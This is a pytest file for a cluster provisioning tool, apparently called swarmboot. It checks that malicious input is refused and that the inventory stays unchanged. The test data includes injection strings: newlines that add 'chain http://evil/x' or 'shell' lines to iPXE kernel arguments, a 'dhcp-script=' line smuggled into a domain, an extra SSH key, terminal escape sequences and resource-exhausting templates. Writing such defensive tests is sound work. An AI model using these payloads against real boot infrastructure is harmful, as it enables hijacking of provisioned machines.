"""Bad input gets a clear error and changes nothing (issue 13, "Bad input that must get a clear
error"): each case through the real CLI on a real SQLite inventory, or against a real
`swarmboot serve` on loopback. What an attacker on the provisioning network would send is sent."""

from __future__ import annotations

import json
import os
import sqlite3
import stat
import time
from pathlib import Path
from typing import Any

import pytest
import requests

from ground.config import Settings
from ground.store import ImageStore, check_name
from lab.packed import make_version
from server.inventory import crud
from server.inventory.db import Database
from swarmboot.cli import main
from tests.helpers.server import ServerProcess, boot_token, cli, running_server, token_headers

MAC = "52:54:00:00:13:01"


def sb(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def refused(capsys: pytest.CaptureFixture[str], *args: str, why: str) -> str:
    """The command fails with a one-message error (no traceback) that contains `why`."""
    code, out, err = sb(capsys, *args)
    assert code != 0, f"swarmboot {args!r} was accepted: {out}"
    assert "Traceback" not in err and err.startswith("swarmboot: error:"), err
    assert why in err, err
    return err


def export(capsys: pytest.CaptureFixture[str]) -> str:
    code, out, err = sb(capsys, "inventory", "export", "-")
    assert code == 0, err
    return out


@pytest.fixture
def inventory(capsys: pytest.CaptureFixture[str]) -> str:
    """A small inventory; returns its export (what every refusal must leave as it is)."""
    for args in (
        ("network", "add", "net", "--cidr", "10.13.0.0/24", "--range", "10.13.0.10-10.13.0.99"),
        ("group", "add", "g", "--image", "img", "--network", "net"),
        ("node", "add", "n1", "--group", "g", "--mac", MAC),
    ):
        code, _, err = sb(capsys, *args)
        assert code == 0, err
    return export(capsys)


# -- kernel arguments, domains, names, keys: one line each ------------------------------------


@pytest.mark.parametrize("obj", ["group", "node"])
def test_a_newline_in_kernel_arguments_is_refused(
    capsys: pytest.CaptureFixture[str], inventory: str, obj: str
) -> None:
    name = "g" if obj == "group" else "n1"
    refused(capsys, obj, "set", name, "--kernel-args", "quiet\nchain http://evil/x", why="newline")
    refused(capsys, obj, "set", name, "--kernel-args", "quiet\rshell", why="newline")
    refused(capsys, obj, "set", name, "--kernel-args", "quiet \x1b[2J", why="control character")
    assert export(capsys) == inventory


def test_a_kernel_argument_with_a_newline_already_stored_adds_no_line_to_the_ipxe_script(
    settings: Settings, swarmboot_home: Path
) -> None:
    """A row written before the check (straight into SQLite): the script is a message, not a shell."""
    make_version(settings.images_dir, "img", 1, size=2**20)
    db = Database.from_settings(settings, pool_size=2)
    crud.add(db, "group", "g", {"image": "img"})
    crud.add_nodes(db, ["n1"], {"group": "g", "macs": [MAC]})
    db.close()
    with sqlite3.connect(swarmboot_home / "swarmboot.db") as con:
        con.execute("UPDATE groups SET kernel_args = ?", ("quiet\nshell\nchain http://evil/x",))
    with running_server(swarmboot_home) as srv:
        script = requests.get(f"{srv.url}/boot/ipxe", params={"mac": MAC}, timeout=10).text
    lines = script.splitlines()
    assert "shell" not in lines and not any(line.startswith("chain http://evil") for line in lines), script
    assert "cannot boot" in script and "kernel command line" in script, script


@pytest.mark.parametrize("how", ["cli", "import"])
def test_a_newline_in_a_domain_is_refused(
    capsys: pytest.CaptureFixture[str], inventory: str, tmp_path: Path, how: str
) -> None:
    evil = "hpc.test\ndhcp-script=/tmp/x.sh"
    if how == "cli":
        refused(capsys, "network", "set", "net", "--domain", evil, why="newline")
    else:
        net = {"name": "net", "cidr": "10.13.0.0/24", "domain": evil}
        doc = {"swarmboot_inventory": 1, "networks": [net]}
        path = tmp_path / "inv.json"
        path.write_text(json.dumps(doc))
        refused(capsys, "inventory", "import", str(path), why="newline")
    refused(capsys, "network", "set", "net", "--domain", "a..b", why="invalid")
    assert export(capsys) == inventory
    code, out, _ = sb(capsys, "network", "set", "net", "--domain", "HPC.Test")
    assert code == 0 and "domain: hpc.test" in out


def test_names_with_a_trailing_newline_are_refused(
    capsys: pytest.CaptureFixture[str], inventory: str
) -> None:
    refused(capsys, "node", "add", "n2\n", "--group", "g", why="invalid node name")
    refused(capsys, "switch", "add", "sw\n", why="invalid switch name")
    refused(capsys, "group", "add", "g2", "--image", "img\n", why="newline")
    assert export(capsys) == inventory
    with pytest.raises(Exception, match="invalid image name"):
        check_name("img\n")


def test_an_ssh_key_with_a_newline_is_refused(capsys: pytest.CaptureFixture[str], inventory: str) -> None:
    two = "ssh-ed25519 AAAAC3Nza me@a\nssh-ed25519 AAAAC3Nzb evil@b"
    refused(capsys, "group", "set", "g", "--ssh-key", two, why="newline")
    assert export(capsys) == inventory


def test_a_range_with_superscript_digits_is_a_clear_error(
    capsys: pytest.CaptureFixture[str], inventory: str
) -> None:
    refused(capsys, "node", "add", "n[²-3]", "--group", "g", why="invalid range")
    refused(capsys, "node", "add", "n[1-99999999999999999999]", "--group", "g", why="too large")
    assert export(capsys) == inventory


def test_integers_beyond_64_bits_are_clear_errors(capsys: pytest.CaptureFixture[str], inventory: str) -> None:
    refused(capsys, "network", "set", "net", "--mtu", str(2**70), why="at most")
    refused(capsys, "network", "set", "net", "--mtu", "12", why="below")
    refused(capsys, "group", "set", "g", "--image-version", str(2**64), why="at most")
    assert export(capsys) == inventory


def test_a_lone_surrogate_is_a_clear_error(capsys: pytest.CaptureFixture[str], inventory: str) -> None:
    # what Python makes of the byte 0xff on a UTF-8 command line
    refused(capsys, "switch", "add", "sw1", "--description", "rack \udcff", why="not valid Unicode")
    refused(capsys, "node", "set", "n1", "--port", "\ud800", why="not valid Unicode")
    assert export(capsys) == inventory


def test_a_deeply_nested_import_is_a_clear_error(
    capsys: pytest.CaptureFixture[str], inventory: str, tmp_path: Path
) -> None:
    path = tmp_path / "deep.yaml"
    path.write_text("swarmboot_inventory: 1\nnetworks: " + "[" * 5000 + "]" * 5000 + "\n")
    refused(capsys, "inventory", "import", str(path), why="nested too deeply")
    path.write_text("swarmboot_inventory: 1\nnodes: &a [*a]\n")  # a structure that contains itself
    refused(capsys, "inventory", "import", str(path), why="nested too deeply")
    assert export(capsys) == inventory


def test_a_nul_in_a_recipe_path_is_a_clear_error(tmp_path: Path) -> None:
    from builder.recipe import RecipeError, parse_recipe

    for text in (
        '[[files]]\nsource = "a\\u0000b"\ndest = "/etc/x"\n',
        '[[files]]\nsource = "recipe.toml"\ndest = "/etc/\\u0000x"\n',
        '[[hooks.configure]]\nname = "h"\nscript = "x\\u0000.sh"\n',
        '[[hooks.configure]]\nname = "h\\n"\nrun = "true"\n',
    ):
        (tmp_path / "recipe.toml").write_text(text)
        with pytest.raises(RecipeError):
            parse_recipe(text, tmp_path / "recipe.toml")


# -- secrets at rest ------------------------------------------------------------------------------


def test_the_database_and_its_wal_are_private_and_exports_leave_secrets_out(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "new-home"  # made by the first command
    monkeypatch.setenv("SWARMBOOT_HOME", str(home))
    for args in (
        ("network", "add", "net", "--cidr", "10.13.0.0/24"),
        ("group", "add", "g", "--image", "img"),
        ("node", "add", "n1", "--group", "g", "--bmc-user", "admin", "--bmc-password", "s3cret"),
    ):
        assert sb(capsys, *args)[0] == 0
    db = Database(f"sqlite:///{home / 'swarmboot.db'}")  # keeps a connection: the -wal exists
    with db.read() as session:
        session.execute(crud.select(crud.Node)).all()
        assert stat.S_IMODE(home.stat().st_mode) == 0o700
        for name in ("swarmboot.db", "swarmboot.db-wal", "swarmboot.db-shm"):
            path = home / name
            assert path.exists(), name
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, name
    db.close()
    plain, secret = tmp_path / "inv.yaml", tmp_path / "inv-secrets.yaml"
    assert sb(capsys, "inventory", "export", str(plain))[0] == 0
    assert sb(capsys, "inventory", "export", str(secret), "--secrets")[0] == 0
    assert "s3cret" not in plain.read_text() and "admin" in plain.read_text()
    assert "s3cret" in secret.read_text()
    for path in (plain, secret):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    # an import of the file without secrets keeps the password the database has
    assert sb(capsys, "inventory", "import", str(plain))[0] == 0
    again = tmp_path / "inv-again.yaml"
    assert sb(capsys, "inventory", "export", str(again), "--secrets")[0] == 0
    assert "s3cret" in again.read_text()
    assert "s3cret" not in sb(capsys, "node", "show", "n1", "--json")[1]


# -- image rm -------------------------------------------------------------------------------------


def _fake_image(settings: Settings, name: str) -> None:
    make_version(settings.images_dir, name, 1, size=2**20)
    (settings.images_dir / name / "rootfs").mkdir(exist_ok=True)
    ImageStore(settings).set_current(name, 1)


def test_image_rm_of_an_image_groups_use_is_refused_unless_forced(
    capsys: pytest.CaptureFixture[str], settings: Settings, inventory: str
) -> None:
    _fake_image(settings, "img")
    refused(capsys, "image", "rm", "img", why="used by group(s) g")
    assert ImageStore(settings).exists("img")
    db = Database.from_settings(settings, pool_size=2)
    from server import events

    events.record(db, "n1", events.parse({"stage": "download", "status": "progress", "image": "img",
                                           "version": 1, "progress": 0.5}))
    refused(capsys, "image", "rm", "img", "--force", why="n1 (version 1, provisioning)")
    assert ImageStore(settings).exists("img")
    events.record(db, "n1", events.parse({"stage": "booted", "status": "done", "image": "img", "version": 1}))
    db.close()
    code, out, err = sb(capsys, "image", "rm", "img", "--force")
    assert code == 0, err
    assert not ImageStore(settings).exists("img") and "still name it" in out


# -- the database: locked, full ----------------------------------------------------------------


def test_a_locked_database_is_a_clear_message_after_a_bounded_wait(
    capsys: pytest.CaptureFixture[str], inventory: str, swarmboot_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SWARMBOOT_DATABASE_BUSY_SECONDS", "2")
    holder = sqlite3.connect(swarmboot_home / "swarmboot.db", isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        started = time.monotonic()
        err = refused(capsys, "node", "add", "n2", "--group", "g", why="locked")
        waited = time.monotonic() - started
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert "another command" in err and 1.5 < waited < 15, (waited, err)
    assert export(capsys) == inventory


@pytest.mark.root
def test_a_full_disk_is_a_clear_message_for_changes_and_reads(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("mounting a small tmpfs needs root")
    from ground.run import run

    home = tmp_path / "small"
    home.mkdir()
    run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(home)], timeout=30)
    try:
        cli(home, "network", "add", "net", "--cidr", "10.13.0.0/24")
        cli(home, "group", "add", "g", "--image", "img")
        fd = os.open(home / "filler", os.O_WRONLY | os.O_CREAT)
        try:
            with pytest.raises(OSError, match="No space left"):
                for _ in range(1000):
                    os.write(fd, b"\0" * 65536)
        finally:
            os.close(fd)
        change = cli(home, "node", "add", "n[1-50]", "--group", "g", check=False)
        assert change.returncode != 0 and "Traceback" not in change.stderr, change.stderr
        assert "disk" in change.stderr and "full" in change.stderr, change.stderr
        for name in ("swarmboot.db-wal", "swarmboot.db-shm"):
            (home / name).unlink(missing_ok=True)
        read = cli(home, "node", "list", check=False)
        assert "Traceback" not in read.stderr, read.stderr
        assert read.returncode == 0 or ("disk" in read.stderr and "full" in read.stderr), read.stderr
        exported = cli(home, "inventory", "export", str(home / "inv.yaml"), check=False)
        assert exported.returncode != 0 and "is full" in exported.stderr, exported.stderr
        assert "Traceback" not in exported.stderr
    finally:
        run(["umount", "-l", str(home)], timeout=30)


# -- the server: events, image files, templates, plans, tracker ---------------------------------


@pytest.fixture
def server(settings: Settings, swarmboot_home: Path) -> Any:
    make_version(settings.images_dir, "compute", 1, size=2**20)
    db = Database.from_settings(settings, pool_size=2)
    crud.add(db, "group", "g", {"image": "compute"})
    crud.add_nodes(db, ["n1"], {"group": "g", "macs": [MAC]})
    db.close()
    with running_server(swarmboot_home) as srv:
        yield srv


def post_event(
    srv: ServerProcess, body: bytes | dict[str, Any], node: str = "n1", token: str = ""
) -> requests.Response:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    headers = {"Content-Type": "application/json", **(token_headers(token) if token else {})}
    return requests.post(f"{srv.url}/api/v1/nodes/{node}/events", data=data, headers=headers, timeout=30)


def test_an_event_with_a_lone_surrogate_is_refused_and_the_node_list_stays_up(server: ServerProcess) -> None:
    body = b'{"stage": "download", "status": "progress", "details": {"x": "\\ud800"}}'
    response = post_event(server, body)
    assert response.status_code == 422 and "surrogate" in response.json()["error"]
    response = post_event(server, b'{"stage": "download", "status": "progress", "details": {"\\udfff": 1}}')
    assert response.status_code == 422
    assert server.admin("nodes")[0]["name"] == "n1"


def test_a_surrogate_already_stored_does_not_break_the_node_list(
    server: ServerProcess, swarmboot_home: Path
) -> None:
    token = boot_token(server, MAC)
    assert post_event(server, {"stage": "download", "status": "progress"}, token=token).status_code == 200
    with sqlite3.connect(swarmboot_home / "swarmboot.db") as con:  # a row from before the checks
        con.execute("""UPDATE node_state SET details = '{"x": "\\ud800", "\\udfff": 1}'""")
    rows = server.admin("nodes")
    assert rows[0]["details"] == {"x": "\ufffd", "\ufffd": 1}


@pytest.mark.parametrize(
    ("body", "status", "why"),
    [
        (b"[" * 100_000 + b"]" * 100_000, 413, "larger than"),
        (b'{"stage": "download", "status": "progress", "details": ' + b'{"a":' * 50 + b"1" + b"}" * 51,
         422, "nested"),
        (json.dumps({"stage": "download", "status": "progress", "version": 2**70}).encode(), 422, "version"),
        (json.dumps({"stage": "download", "status": "done", "duration": 1e300}).encode(), 422, "duration"),
        (json.dumps({"stage": "download", "status": "progress", "details": {"n": 2**70}}).encode(), 422,
         "64 bits"),
        (json.dumps({"stage": "download", "status": "progress",
                     "details": {str(i): i for i in range(1000)}}).encode(), 422, "values"),
    ],
    ids=["16-MiB-ish", "deep", "huge-version", "huge-duration", "huge-detail", "many-details"],
)
def test_events_have_limits(server: ServerProcess, body: bytes, status: int, why: str) -> None:
    response = post_event(server, body)
    assert response.status_code == status, response.text
    assert why in response.json()["error"]


def test_a_16_mib_event_is_refused_without_being_read(server: ServerProcess) -> None:
    big = json.dumps({"stage": "download", "status": "progress", "message": "x" * (16 << 20)}).encode()
    response = post_event(server, big)
    assert response.status_code == 413
    assert server.admin("nodes")[0]["message"] == ""


def test_terminal_escapes_from_nodes_are_not_printed(
    server: ServerProcess, swarmboot_home: Path
) -> None:
    evil = "ok\x1b]0;owned\x07\x1b[2J\x1b[H\x9b31m"
    event = {"stage": "download", "status": "failed", "message": evil, "details": {"why": evil}}
    assert post_event(server, event, token=boot_token(server, MAC)).status_code == 200
    for args in (("node", "status"), ("node", "show", "n1")):
        out = cli(swarmboot_home, *args).stdout
        assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out, repr(out)
        assert "ok" in out


def test_an_image_version_in_superscript_digits_is_a_404(server: ServerProcess) -> None:
    response = requests.get(f"{server.url}/images/compute/%C2%B2/manifest.json", timeout=10)
    assert response.status_code == 404
    assert requests.get(f"{server.url}/images/compute/1/manifest.json", timeout=10).status_code == 200


def _set_template(swarmboot_home: Path, srv: ServerProcess, template: str) -> None:
    path = swarmboot_home / "t.j2"
    path.write_text(template)
    cli(swarmboot_home, "group", "set", "g", "--file", f"/etc/x={path}")
    srv.refresh()


def test_a_template_that_divides_by_zero_is_a_409(server: ServerProcess, swarmboot_home: Path) -> None:
    _set_template(swarmboot_home, server, "{{ 1/0 }}")
    response = requests.get(f"{server.url}/api/v1/plan", params={"mac": MAC}, timeout=10)
    assert response.status_code == 409 and "division by zero" in response.json()["error"]


@pytest.mark.parametrize(
    ("template", "why"),
    [
        ("{{ (7**12000000) % 10 }}", "bits"),
        ("{{ 'x' * 10**9 }}", "larger than"),
        ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", "longer than"),
        ("{% for i in range(3000) %}{{ 'y' * 1000 }}{% endfor %}", "larger than"),
    ],
    ids=["huge-power", "huge-repeat", "endless-loop", "huge-output"],
)
def test_a_template_cannot_freeze_the_server(
    server: ServerProcess, swarmboot_home: Path, template: str, why: str
) -> None:
    _set_template(swarmboot_home, server, template)
    answers: list[float] = []
    import threading

    def poke() -> None:  # the server keeps answering while the template renders
        end = time.monotonic() + 2.5
        while time.monotonic() < end:
            t0 = time.monotonic()
            requests.get(f"{server.url}/healthz", timeout=10)
            answers.append(time.monotonic() - t0)
            time.sleep(0.1)

    thread = threading.Thread(target=poke)
    thread.start()
    response = requests.get(f"{server.url}/api/v1/plan", params={"mac": MAC}, timeout=30)
    thread.join()
    assert response.status_code == 409 and why in response.json()["error"], response.text
    assert answers and max(answers) < 1.0, answers
    _set_template(swarmboot_home, server, "fine {{ node.name }}")
    response = requests.get(f"{server.url}/api/v1/plan", params={"mac": MAC}, timeout=30)
    assert response.status_code == 200 and response.json()["files"][0]["content"] == "fine n1"


def test_junk_query_parameters_do_not_force_a_render(server: ServerProcess) -> None:
    def built() -> int:
        return int(server.admin("stats")["plans"]["built"])

    assert requests.get(f"{server.url}/api/v1/plan", params={"mac": MAC}, timeout=10).status_code == 200
    before = built()
    for i in range(20):
        params = {"mac": MAC.upper() if i % 2 else MAC, "junk": str(i), f"x{i}": "y"}
        assert requests.get(f"{server.url}/api/v1/plan", params=params, timeout=10).status_code == 200
    assert built() == before


def test_the_tracker_caps_peers_per_ip_and_ignores_x_forwarded_for(
    server: ServerProcess, settings: Settings
) -> None:
    from urllib.parse import quote_from_bytes

    manifest = ImageStore(settings).manifest("compute", 1)
    info_hash = bytes.fromhex(manifest.info_hash)
    for port in range(20000, 20040):
        query = (f"info_hash={quote_from_bytes(info_hash)}&peer_id={quote_from_bytes(os.urandom(20))}"
                 f"&port={port}&left=100&compact=1")
        requests.get(f"{server.url}/announce?{query}", headers={"X-Forwarded-For": "10.9.9.9"}, timeout=10)
    swarm = server.admin("stats")["tracker"]["swarms"][manifest.info_hash]
    ips = {p["ip"] for p in swarm["peers"]}
    assert "10.9.9.9" not in ips, ips
    from_loopback = [p for p in swarm["peers"] if p["ip"] == "127.0.0.1" and p["port"] >= 20000]
    assert len(from_loopback) == 16, len(from_loopback)
    assert {p["port"] for p in from_loopback} == set(range(20024, 20040))  # the newest stay
